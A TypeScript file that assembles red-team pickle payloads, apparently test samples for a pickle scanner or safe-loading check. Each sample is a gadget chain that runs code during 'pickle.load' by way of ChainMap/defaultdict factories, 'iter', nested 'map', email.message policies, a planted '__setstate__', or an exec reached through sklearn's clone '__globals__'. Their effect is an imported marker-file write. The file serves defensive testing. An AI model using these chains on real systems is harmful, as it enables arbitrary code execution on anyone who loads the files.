import {
  build,
  call,
  dictOf,
  emptyDict,
  emptyList,
  emptyTuple,
  get,
  int,
  newObject,
  none,
  type Part,
  pickle,
  pop,
  proto,
  put,
  reduce,
  setItem,
  setState,
  stackGlobal,
  tuple1,
  tuple2,
  unicode,
} from './assemble.ts';
import {
  listOf,
  marker,
  path,
  type RedTeamSample,
  sample,
  tofile,
  touch,
  tupleOf,
  writer,
  writes,
} from './red-team-parts.ts';

/** `_headers.append(parse(name, value))` is what `message[name] = value` does with such a policy. */
function applied(parse: Part, list: number, name: Part, value: Part): Part {
  const policy = setState(
    [stackGlobal('types', 'SimpleNamespace'), emptyTuple, newObject],
    dictOf(
      [unicode('header_max_count'), stackGlobal('operator', 'not_')],
      [unicode('header_store_parse'), parse],
    ),
  );
  return [
    setState(
      [stackGlobal('email.message', 'Message'), emptyTuple, newObject],
      dictOf([unicode('_headers'), [emptyList, put(list)]], [unicode('policy'), policy]),
    ),
    name,
    value,
    setItem,
    pop,
  ];
}

/** `ChainMap(*list)` */
function chained(list: number): Part {
  return [stackGlobal('collections', 'ChainMap'), call(stackGlobal('builtins', 'tuple'), get(list)), reduce];
}

export const calls: readonly RedTeamSample[] = [
  sample(
    'getattr put away in an object',
    'pickle.load',
    pickle(
      proto(4),
      applied(
        stackGlobal('builtins', 'getattr'),
        20,
        stackGlobal('sklearn.base', 'clone'),
        unicode('__globals__'),
      ),
      applied(stackGlobal('operator', 'getitem'), 21, chained(20), unicode('__builtins__')),
      applied(stackGlobal('operator', 'getitem'), 22, chained(21), unicode('exec')),
      call(
        stackGlobal('builtins', 'dict'),
        call(
          stackGlobal('collections', 'ChainMap'),
          call(
            stackGlobal('collections', 'defaultdict'),
            call(
              stackGlobal('joblib.parallel', 'BatchedCalls'),
              call(
                stackGlobal('builtins', 'zip'),
                get(22),
                listOf([unicode(writes), tuple1]),
                listOf(emptyDict),
              ),
              tupleOf(call(stackGlobal('joblib._parallel_backends', 'SequentialBackend'), int(0)), int(1)),
            ),
          ),
          dictOf([unicode('a'), none]),
        ),
      ),
    ),
  ),
  sample(
    'iter() calls its first argument',
    'pickle.load',
    pickle(
      proto(4),
      call(
        stackGlobal('builtins', 'list'),
        call(
          stackGlobal('builtins', 'iter'),
          call(stackGlobal('functools', 'partial'), touch, path),
          stackGlobal('builtins', 'callable'),
        ),
      ),
    ),
  ),
  sample(
    'map() over map()',
    'pickle.load',
    pickle(
      proto(4),
      call(
        stackGlobal('builtins', 'list'),
        call(
          stackGlobal('builtins', 'map'),
          stackGlobal('builtins', 'list'),
          call(
            stackGlobal('builtins', 'map'),
            stackGlobal('builtins', 'map'),
            listOf(writer),
            listOf(listOf(path)),
          ),
        ),
      ),
    ),
  ),
  sample(
    'a missing key calls a factory',
    'pickle.load',
    pickle(
      proto(4),
      call(
        stackGlobal('builtins', 'dict'),
        call(
          stackGlobal('collections', 'ChainMap'),
          call(
            stackGlobal('collections', 'defaultdict'),
            call(stackGlobal('functools', 'partial'), writer, path),
          ),
          dictOf([unicode('a'), none]),
        ),
      ),
    ),
  ),
  sample(
    'a missing key imports a module',
    'pickle.load',
    pickle(
      proto(4),
      call(
        stackGlobal('builtins', 'dict'),
        call(
          stackGlobal('collections', 'ChainMap'),
          call(
            stackGlobal('collections', 'defaultdict'),
            call(
              stackGlobal('functools', 'partial'),
              stackGlobal('sklearn.externals.array_api_compat._internal', 'clone_module'),
              unicode('this'),
              emptyDict,
            ),
          ),
          dictOf([unicode('a'), none]),
        ),
      ),
    ),
  ),
  sample(
    'an attribute stands in for a method',
    'pickle.load',
    pickle(
      proto(4),
      setState(
        [stackGlobal('email.message', 'Message'), emptyTuple, newObject],
        dictOf(
          [unicode('_headers'), emptyList],
          [
            unicode('policy'),
            setState(
              [stackGlobal('types', 'SimpleNamespace'), emptyTuple, newObject],
              dictOf(
                [unicode('header_max_count'), stackGlobal('builtins', 'callable')],
                [unicode('header_store_parse'), tofile],
              ),
            ),
          ],
        ),
      ),
      unicode(marker),
      unicode(''),
      setItem,
    ),
  ),
  sample(
    'a state that is computed plants __setstate__',
    'pickle.load',
    pickle(
      proto(4),
      [stackGlobal('types', 'SimpleNamespace'), emptyTuple, newObject],
      call(stackGlobal('builtins', 'dict'), listOf([unicode('__setstate__'), tofile, tuple2])),
      build,
      unicode(marker),
      build,
    ),
  ),
];
